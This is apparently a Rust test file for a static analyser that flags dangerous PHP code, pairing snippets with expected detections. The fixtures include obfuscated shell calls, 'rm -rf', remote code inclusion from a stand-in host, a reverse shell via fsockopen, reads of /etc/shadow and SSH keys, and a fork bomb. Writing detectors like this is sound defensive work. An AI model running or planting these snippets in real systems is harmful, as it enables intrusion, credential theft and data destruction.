use super::recorder::{check, silent};
use crate::lang::Lang;

const LANG: Lang = Lang::Php;

#[test]
fn calls_that_run_programs_are_found() {
    check(
        LANG,
        &[
            (r#"system("rm -rf /x");"#, "shell: rm -rf /x"),
            (r#"$r=array(); exec("/tmp/p", $r); print(join("\n",$r));"#, "shell: /tmp/p"),
            (r"echo shell_exec('id');", "shell: id"),
            ("echo `id`;", "shell: id"),
            (r#"passthru("id");"#, "shell: id"),
            (r#"pcntl_exec("/bin/sh", ["-c","halt"]);"#, "run /bin/sh -c halt"),
            (r#"SYSTEM("id");"#, "shell: id"),
            (r#"\system("id");"#, "shell: id"),
            (r#"$h=popen("sh","w"); fwrite($h,"halt");"#, "run sh < halt"),
            (r#"proc_open("id",[],$p);"#, "shell: id"),
            ("<html><?php system('id'); ?></html>", "shell: id"),
            (r#"function f($c){ system($c); } f("halt");"#, "shell: halt"),
            (r#"$f = function($c){ system($c); }; $f("halt");"#, "shell: halt"),
            (r#"$f = fn($c) => system($c); $f("halt");"#, "shell: halt"),
        ],
    );
}

#[test]
fn disguised_texts_are_resolved() {
    check(
        LANG,
        &[
            (r#"system(base64_decode("aGFsdA=="));"#, "shell: halt <decoded>"),
            (r#"system(hex2bin("68616c74"));"#, "shell: halt <decoded>"),
            (r#"system(str_rot13("unyg"));"#, "shell: halt <decoded>"),
            (r#"system(strrev("tlah"));"#, "shell: halt <decoded>"),
            (r"system(chr(104).chr(97).chr(108).chr(116));", "shell: halt <decoded>"),
            (r"system(implode(array_map('chr',[104,97,108,116])));", "shell: halt <decoded>"),
            (r#"$f="sys"."tem"; $f("halt");"#, "shell: halt"),
            (r#"("sys"."tem")("halt");"#, "shell: halt"),
            (r#"call_user_func("system","halt");"#, "shell: halt"),
            (r#"call_user_func_array("system",["halt"]);"#, "shell: halt"),
            (r#"array_map("system",["halt"]);"#, "shell: halt"),
            (r#"eval(base64_decode("c3lzdGVtKCJoYWx0Iik7"));"#, "shell: halt"),
            (r#"eval(gzinflate(base64_decode("abcd")));"#, "php: compressed text <decoded>"),
            (r#"$a="halt"; system("$a -p");"#, "shell: halt -p"),
            (r#"$a="halt"; system("{$a} -p");"#, "shell: halt -p"),
            (r#"assert("system('halt')");"#, "shell: halt"),
            (r#"$f=$_GET['f']; $f("x");"#, "gap Code Runtime _GET.f"),
        ],
    );
}

#[test]
fn files_and_hosts_are_found() {
    check(
        LANG,
        &[
            (r#"file_put_contents("/etc/x", "p");"#, "Write /etc/x = p [emptying]"),
            (r#"file_put_contents("/etc/x", "p", FILE_APPEND);"#, "Write /etc/x = p [appending]"),
            (r#"echo file_get_contents("/etc/shadow");"#, "Read /etc/shadow"),
            (r#"$f=fopen("/etc/x","w"); fwrite($f,"p");"#, "Write /etc/x = p [emptying]"),
            (r#"unlink("/etc/x");"#, "Delete /etc/x"),
            (r#"eval(file_get_contents("http://h/x"));"#, "php: http://h/x <network>"),
            (
                r#"file_put_contents("/etc/x", file_get_contents("http://h/x"));"#,
                "Write /etc/x = http://h/x [emptying] <network>",
            ),
            (r#"include "http://h/x";"#, "php: http://h/x <network>"),
            (r#"include("data:text/plain;base64,c3lzdGVtKCJoYWx0Iik7");"#, "shell: halt"),
            (r#"chmod("/etc/x", 0777);"#, "ChangeMode /etc/x [world-writable] [executable]"),
            (
                r#"$s=fsockopen("h",1);exec("/bin/sh -i <&3 >&3 2>&3");"#,
                "Execute shell  [interactive] [remotely controlled] <network>",
            ),
            (r#"readfile(getenv("HOME")."/.ssh/id_rsa");"#, "Read /home/ada/.ssh/id_rsa"),
            ("while(1) pcntl_fork();", "Exhaust  [irreversible]"),
            ("print_r($_ENV);", "Read environment"),
        ],
    );
}

#[test]
fn harmless_code_says_nothing() {
    silent(
        LANG,
        &[
            "echo 1;",
            "echo PHP_VERSION;",
            r#"echo "system('rm -rf /')";"#,
            "// system('x');\necho 1;",
            "# system('x')\necho 1;",
            "/* system('x') */ echo 1;",
            r#"print_r(json_decode('{"a":1}', true));"#,
            "foreach ([1,2] as $x) { echo $x; }",
            r"$a = ['exec' => 1]; echo $a['exec'];",
            r#"echo date("Y-m-d");"#,
            "var_dump(extension_loaded('curl'));",
            r"class A { function system() { return 1; } } echo 2;",
        ],
    );
}

#[test]
fn loops_run_for_each_of_their_values() {
    check(
        LANG,
        &[
            (r#"foreach (glob("/x/*") as $f) unlink($f);"#, "Delete /x/*"),
            (r#"foreach (["/x", "/y"] as $i => $d) { system("rm -rf $d"); }"#, "shell: rm -rf /y"),
            (
                r#"foreach (["a","b","c","d","e","f","g","h"] as $x) foreach (["a","b","c","d","e","f","g","h"] as $y) foreach (["/x","/y"] as $z) unlink($z);"#,
                "Delete /x",
            ),
            (r#"array_map("unlink", glob("/x/*"));"#, "Delete /x/*"),
            (
                r#"foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator("/x")) as $f) unlink($f);"#,
                "Delete /x/*",
            ),
        ],
    );
    silent(LANG, &[r#"foreach (glob("src/*.php") as $f) { $n = strlen($f); }"#]);
}

#[test]
fn lists_of_places_take_what_is_theirs() {
    check(
        LANG,
        &[
            ("<?php list($a, $b) = ['halt', 'reboot']; system($b);", "shell: reboot"),
            ("<?php system($x ? trim('reboot') : 'halt');", "shell: reboot"),
            ("<?php system('halt -' . 2 << 1);", "shell: halt -4"),
        ],
    );
}
